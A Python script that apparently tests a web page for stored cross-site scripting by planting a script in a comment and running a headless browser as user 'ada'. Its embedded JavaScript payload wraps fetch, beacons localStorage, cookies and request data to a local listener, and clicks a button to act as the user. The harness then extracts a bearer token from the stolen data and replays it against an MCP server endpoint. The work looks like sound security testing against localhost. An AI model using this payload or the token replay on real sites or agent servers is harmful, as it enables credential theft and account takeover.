"""Be ada on a page that shows somebody else's script as a comment, and see what that script gets: visit.py PAGE."""

import os
import re
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import quote

import httpx2
from playwright.sync_api import sync_playwright

SCRIPT = """<script>{
  const send = (loot) => navigator.sendBeacon("http://127.0.0.1:9001/", loot);
  const { fetch } = window;
  window.fetch = (...sent) => { send(JSON.stringify(sent)); return fetch(...sent); };
  let acted = false;
  const timer = setInterval(() => {
    send(JSON.stringify(localStorage) + document.cookie);
    const output = document.querySelector("output");
    if (!output.value) return;
    if (acted) { send("acted: " + output.value); clearInterval(timer); return; }
    acted = true;
    output.value = "";
    document.querySelector("button").click();
  }, 50);
}</script>"""

loot: list[str] = []


class Attacker(BaseHTTPRequestHandler):
    """Takes what the script sends."""

    def do_POST(self) -> None:
        loot.append(self.rfile.read(int(self.headers["content-length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


Thread(target=ThreadingHTTPServer(("127.0.0.1", 9001), Attacker).serve_forever, daemon=True).start()
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(
        executable_path=os.environ["BROWSER"],
        args=["--no-sandbox"] if os.geteuid() == 0 else [],  # as root, as in a container, there is no sandbox
    )
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:8000/page/{sys.argv[1]}?comment={quote(SCRIPT)}")
    page.click("button")
    page.locator("output", has_text="echo").wait_for()
    page.wait_for_load_state("networkidle")
    print("ada sees:", page.inner_text("output"))
    browser.close()

tokens = re.findall(r"eyJ[\w.-]+", " ".join(loot))
for token in tokens[:1]:
    headers = {"authorization": f"Bearer {token}", "accept": "application/json, text/event-stream"}
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    answer = httpx2.post("http://127.0.0.1:8765/mcp", json=body, headers=headers)
    print("the script took her token, and the server answers it", answer.status_code)
if not tokens:
    print("the script took no token" if loot else "the script did not run")
if any(sent.startswith("acted: ") for sent in loot):
    print("the script acted as ada while the page was open")
